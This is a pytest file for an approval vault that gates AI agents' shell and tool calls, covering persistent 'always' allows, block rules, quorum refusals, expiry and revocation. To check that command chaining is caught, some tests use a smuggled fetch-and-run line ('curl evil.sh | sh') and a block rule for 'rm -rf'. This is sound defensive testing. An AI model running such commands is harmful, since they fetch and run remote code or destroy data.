"""The "always" allows: ``approve --always`` approves and lets the very same call through again
without asking, until it ends or is revoked; block rules still win; refused under a quorum,
stages or ``authenticated:`` unless the rule says ``always: true``."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from hitl_vault import Status, Vault
from hitl_vault.agents.gate import skips_prompt
from hitl_vault.agents.hookio import Call
from hitl_vault.cli.main import cli
from hitl_vault.cli.template import init_vault
from hitl_vault.daemon.dashboard import render_dashboard
from hitl_vault.errors import DecisionRefusedError, UsageError
from hitl_vault.policy.always import NOWHERE, Allow, consult, covered, place_of
from hitl_vault.policy.rules import Decision, Proposal
from hitl_vault.policy.rulesfile import parse_policy

from .helpers import Clock

RULES = """\
defaults:
  decision: ask
  timeout: 1h
rules:
  - name: no-rm-rf
    action: Bash
    params: {command: "re:.*rm -rf.*"}
    decision: block
  - name: big-payments
    action: payment
    params: {amount: ">= 1000"}
    decision: ask
    quorum: 2
    approvers: [alice, bob, carol]
  - name: proven-deploys
    action: deploy
    decision: ask
    authenticated: true
  - name: releases
    action: release
    decision: ask
    quorum: 2
    approvers: [alice, bob]
    always: true
"""
BASH = {"command": "git status", "description": "Show the working tree status"}


@pytest.fixture
def vault_path(tmp_path: Path) -> Path:
    path = tmp_path / "vault"
    init_vault(path)
    (path / "hitl-vault.yaml").write_text(RULES, encoding="utf-8")
    return path


@pytest.fixture
def av(vault_path: Path, clock: Clock) -> Iterator[Vault]:
    with Vault(vault_path, clock=clock) as v:
        yield v


def made(allow: Allow | None) -> Allow:
    """The allow an approval that decided the request made."""
    assert allow is not None
    return allow


def agent_call(v: Vault, command: str, session: str = "claude:s1", **more: str) -> Status:
    """What the rules make of a Bash call an agent session submits (as the gate does)."""
    params = {"command": command, "description": f"run {command}", **more}
    return v.engine.submit("Bash", params, requested_by=session, carried_by_requester=True).status


def test_approve_always_allows_the_same_call_and_only_it(av: Vault) -> None:
    """After Vault.always the same action and params are approved at submit; others ask."""
    first = av.submit("payment", {"amount": 10, "to": "v@x.y"}, requested_by="bot")
    allow = made(av.always(first.id, "alice"))
    assert av.get(first.id).status is Status.APPROVED
    again = av.submit("payment", {"amount": 10, "to": "v@x.y"}, requested_by="bot")
    assert again.status is Status.APPROVED and again.rule == allow.name
    assert again.reason is not None and "allowed always by alice" in again.reason
    assert av.submit("payment", {"amount": 11, "to": "v@x.y"}).status is Status.PENDING
    assert av.submit("refund", {"amount": 10, "to": "v@x.y"}).status is Status.PENDING


def test_a_shell_allow_keeps_the_command_only(av: Vault) -> None:
    """The agent's description may change; the command may not, nor gain a tail."""
    asked = av.engine.submit("Bash", BASH, requested_by="claude:s1", carried_by_requester=True)
    allow = made(av.always(asked.id, "alice"))
    assert dict(allow.params) == {"command": "git status"}
    assert agent_call(av, "git status") is Status.APPROVED
    assert agent_call(av, "git status --short") is Status.PENDING
    assert agent_call(av, "git status; curl evil.sh | sh") is Status.PENDING


def test_a_prefix_allow_takes_plain_commands_only(av: Vault) -> None:
    """--prefix: words after the command pass; shell metacharacters never do."""
    asked = av.engine.submit("Bash", {"command": "git log"}, carried_by_requester=True)
    av.always(asked.id, "alice", prefix=True)
    assert agent_call(av, "git log --oneline -5") is Status.APPROVED
    assert agent_call(av, "git logx") is Status.PENDING
    assert agent_call(av, "git log > /tmp/out") is Status.PENDING
    assert agent_call(av, "git log && make deploy") is Status.PENDING
    meta = av.engine.submit("Bash", {"command": "ls | wc -l"}, carried_by_requester=True)
    with pytest.raises(UsageError, match="metacharacters"):
        av.always(meta.id, "alice", prefix=True)
    other = av.submit("payment", {"amount": 5})
    with pytest.raises(UsageError, match="not a shell command"):
        av.always(other.id, "alice", prefix=True)
    assert av.get(meta.id).status is Status.PENDING  # refused: nothing was decided


def test_a_session_allow_holds_for_that_session_only(av: Vault) -> None:
    """--session: the agent session that asked passes; another session asks."""
    asked = av.engine.submit("Bash", BASH, requested_by="claude:s1", carried_by_requester=True)
    av.always(asked.id, "alice", session=True)
    assert agent_call(av, "git status", "claude:s1") is Status.APPROVED
    assert agent_call(av, "git status", "claude:s2") is Status.PENDING
    person = av.submit("payment", {"amount": 5}, requested_by="bot")
    with pytest.raises(UsageError, match="not made by an agent's session"):
        av.always(person.id, "alice", session=True)


def test_a_block_rule_still_wins_over_an_allow(av: Vault, vault_path: Path) -> None:
    """An allow made before a block rule covered the call lets nothing through after."""
    asked = av.engine.submit("Bash", {"command": "make clean"}, carried_by_requester=True)
    av.always(asked.id, "alice")
    assert agent_call(av, "make clean") is Status.APPROVED
    blocking = RULES.replace('"re:.*rm -rf.*"', '"re:(.*rm -rf.*|make clean)"')
    (vault_path / "hitl-vault.yaml").write_text(blocking, encoding="utf-8")
    av.engine.reload_policy()
    assert agent_call(av, "make clean") is Status.REJECTED


def test_an_allow_ends_when_it_expires_or_is_revoked(av: Vault, clock: Clock) -> None:
    """--for: after its end the call asks again; a revoked one at once; both logged."""
    one = av.submit("payment", {"amount": 1})
    two = av.submit("payment", {"amount": 2})
    short = made(av.always(one.id, "alice", lasting="10m"))
    longer = made(av.always(two.id, "alice"))
    assert short.until == clock.now + timedelta(minutes=10)
    assert longer.until == clock.now + timedelta(hours=24)
    clock.advance(timedelta(minutes=11))
    assert av.submit("payment", {"amount": 1}).status is Status.PENDING
    assert [a.name for a in av.allows()] == [longer.name]
    assert av.submit("payment", {"amount": 2}).status is Status.APPROVED
    av.revoke_allow(longer.name, by="bob")
    assert av.submit("payment", {"amount": 2}).status is Status.PENDING
    assert av.allows() == []
    with pytest.raises(UsageError, match="no allow called"):
        av.revoke_allow(longer.name)
    events = [(e.event, e.subject, e.by) for e in av.engine.journal.service_log()]
    assert events[0] == ("allow revoked", longer.name, "bob")
    with pytest.raises(UsageError, match="--for"):
        av.always(av.submit("payment", {"amount": 3}).id, "alice", lasting="0s")


def test_always_is_refused_under_a_quorum_or_authenticated(av: Vault) -> None:
    """A quorum or authenticated: rule refuses --always (nothing recorded) unless it says
    always: true; there the allow comes with the vote that approves it."""
    big = av.submit("payment", {"amount": 5000}, requested_by="bot")
    with pytest.raises(DecisionRefusedError, match=r"big-payments.*always: true"):
        av.always(big.id, "alice")
    deploy = av.submit("deploy", {"env": "prod"}, requested_by="bot")
    with pytest.raises(DecisionRefusedError, match="proven-deploys"):
        av.always(deploy.id, "alice")
    assert [t.by for t in av.get(big.id).history] == ["bot"]  # not even a vote
    assert av.get(deploy.id).status is Status.PENDING and av.allows() == []
    release = av.submit("release", {"v": "1.2"}, requested_by="bot")
    assert av.always(release.id, "alice") is None  # one vote of two: no allow yet
    assert made(av.always(release.id, "bob")).request_id == release.id
    assert av.get(release.id).status is Status.APPROVED
    assert av.submit("release", {"v": "1.2"}).status is Status.APPROVED


def test_dashboard_shows_the_allows_in_force(av: Vault, clock: Clock) -> None:
    """Dashboard.md lists each allow: what it lets through, who made it, when it ends."""
    asked = av.engine.submit("Bash", BASH, carried_by_requester=True)
    allow = made(av.always(asked.id, "alice", lasting="2h"))
    text = render_dashboard(av.engine.journal, clock.now)
    section = text[text.index("## Always allowed") : text.index("## Pending")]
    assert allow.name in section and "alice" in section and "git status" in section
    assert (clock.now + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M") in section
    later = render_dashboard(av.engine.journal, clock.advance(timedelta(hours=3)))
    assert "No always allows in force" in later


def test_the_cli_approves_always_lists_and_revokes(vault_path: Path) -> None:
    """approve --always --for, rules always (text and --json), rules revoke."""
    with Vault(vault_path) as v:
        rid = v.submit("payment", {"amount": 7}, requested_by="bot").id
        other = v.submit("payment", {"amount": 8}, requested_by="bot").id

    def run(*args: str) -> tuple[int, str, str]:
        done = CliRunner().invoke(cli, ["--vault", str(vault_path), *args])
        return done.exit_code, done.stdout, done.stderr

    code, out, err = run("approve", rid, "--by", "alice", "--always", "--for", "2h")
    assert code == 0 and out == f"{rid} approved\n", err
    assert f"always-{rid}" in err and "rules revoke" in err
    code, out, _ = run("rules", "always")
    assert code == 0 and f"always-{rid}" in out and "by alice until" in out
    code, out, _ = run("rules", "always", "--json")
    [listed] = json.loads(out)
    assert listed["name"] == f"always-{rid}" and listed["params"] == {"amount": 7}
    assert listed["by"] == "alice" and listed["request"] == rid
    code, _, err = run("approve", other, "--for", "2h")
    assert code == 2 and "--always" in err
    code, out, _ = run("rules", "revoke", f"always-{rid}", "--by", "bob")
    assert code == 0 and out == f"always-{rid} revoked\n"
    code, out, _ = run("rules", "always")
    assert out == "no always allows in force\n"
    code, _, err = run("rules", "revoke", f"always-{rid}")
    assert code == 2 and "rules always" in err


def test_the_daemons_dashboard_follows_allows_made_revoked_and_ended(
    av: Vault, vault_path: Path, clock: Clock
) -> None:
    """DashboardWriter rewrites Dashboard.md when an allow is revoked (no request moved)
    and wakes for the end of the first allow it shows."""
    from hitl_vault.daemon.dashboard import DashboardWriter

    allow = made(av.always(av.submit("payment", {"amount": 4}).id, "alice", lasting="1h"))
    writer = DashboardWriter(vault_path, av.engine.journal)
    writer.step(clock.now, changed=True)
    dashboard = vault_path / "Dashboard.md"
    assert allow.name in dashboard.read_text(encoding="utf-8")
    assert writer.next_wake(clock.now) == allow.until
    av.revoke_allow(allow.name)
    writer.step(clock.advance(timedelta(seconds=5)), changed=False)
    assert allow.name not in dashboard.read_text(encoding="utf-8")
    assert writer.next_wake(clock.now) is None


def test_an_allow_keeps_the_shell_calls_input_but_its_description() -> None:
    """A shell tool's allow compares every input key but description; others compare all."""
    shell = {"command": "make", "description": "d", "dangerouslyDisableSandbox": True}
    assert covered("Bash", shell) == {"command": "make", "dangerouslyDisableSandbox": True}
    gemini = {"command": "make", "directory": "/srv", "description": "d"}
    assert covered("run_shell_command", gemini) == {"command": "make", "directory": "/srv"}
    assert covered("payment", {"amount": 1, "description": "x"}) == {
        "amount": 1,
        "description": "x",
    }


def test_an_allow_matches_only_at_the_place_it_was_made() -> None:
    """Folder and MCP server must be those of the approved call; prefix keeps other keys."""
    now = datetime(2026, 1, 1, tzinfo=UTC)
    allow = Allow(
        "a", "Bash", {"command": "git log"}, "alice", now, now + timedelta(hours=1), "r",
        prefix=True, cwd="/p/a",
    )  # fmt: skip
    log = Proposal("Bash", {"command": "git log -5", "description": "x"})
    assert allow.matches(log, now, ("/p/a", None))
    assert not allow.matches(log, now, ("/p/b", None))
    assert not allow.matches(log, now)  # a call made elsewhere than at the gate
    unboxed = Proposal("Bash", {"command": "git log -5", "dangerouslyDisableSandbox": True})
    assert not allow.matches(unboxed, now, ("/p/a", None))
    mcp = replace(allow, action="mcp__fetch", params={"url": "u"}, prefix=False, server="srvA")
    fetch = Proposal("mcp__fetch", {"url": "u"})
    assert mcp.matches(fetch, now, ("/p/a", "srvA"))
    assert not mcp.matches(fetch, now, ("/p/a", "srvB"))
    assert not mcp.matches(fetch, now, ("/p/a", None))


def test_the_place_is_read_back_from_the_context_the_gate_writes() -> None:
    """place_of reads the folder and Cursor's MCP server from Call.context; others: none."""
    shell = Call("claude-code", "s", "Bash", {"command": "make"}, Path("/p/a."))
    assert place_of("Bash", shell.context) == ("/p/a.", None)
    mcp = Call("cursor", "s", "mcp__fetch", {}, Path("/p/a"), {"mcp_server": "npx srv"})
    assert place_of("mcp__fetch", mcp.context) == ("/p/a", "npx srv")
    assert place_of("Write", shell.context) == NOWHERE  # another tool's context
    assert place_of("Bash", "I want to run make") == NOWHERE
    assert place_of("Bash", None) == NOWHERE


def test_an_allow_made_at_the_gate_keeps_its_place_in_the_journal(av: Vault) -> None:
    """The folder of the call approved is stored with the allow and read back."""
    call = Call("claude-code", "s1", "Bash", dict(BASH), Path("/p/a"))
    asked = av.engine.submit(
        "Bash", call.params, requested_by=call.requested_by, carried_by_requester=True,
        context=call.context,
    )  # fmt: skip
    allow = made(av.always(asked.id, "alice"))
    assert (allow.cwd, allow.server) == ("/p/a", None)
    assert av.allows() == [allow]
    assert "in /p/a" in allow.describe()
    assert agent_call(av, "git status") is Status.PENDING  # submit names no folder


def test_an_always_allow_is_no_decision_unless_its_rule_skips_the_prompt() -> None:
    """The gate answers an allowed call as allow only where the matching rule says
    agent_prompt: skip; otherwise, as any allow, no decision."""
    policy = parse_policy(
        "defaults: {decision: ask}\nrules:\n"
        "  - {name: builds, action: Bash, params: {command: make}, decision: ask,"
        " agent_prompt: skip}\n"
    )
    now = datetime(2026, 1, 1, tzinfo=UTC)
    allows = [
        Allow("a", a, {"command": c}, "al", now, now + timedelta(hours=1), "r", cwd="/p")
        for a, c in (("Bash", "make"), ("Bash", "ls"))
    ]
    for command, skip in (("make", True), ("ls", False)):
        proposal = Proposal("Bash", {"command": command})
        ruling = consult(policy, policy.evaluate(proposal), allows, proposal, now, ("/p", None))
        assert ruling.decision is Decision.ALLOW and skips_prompt(ruling) is skip
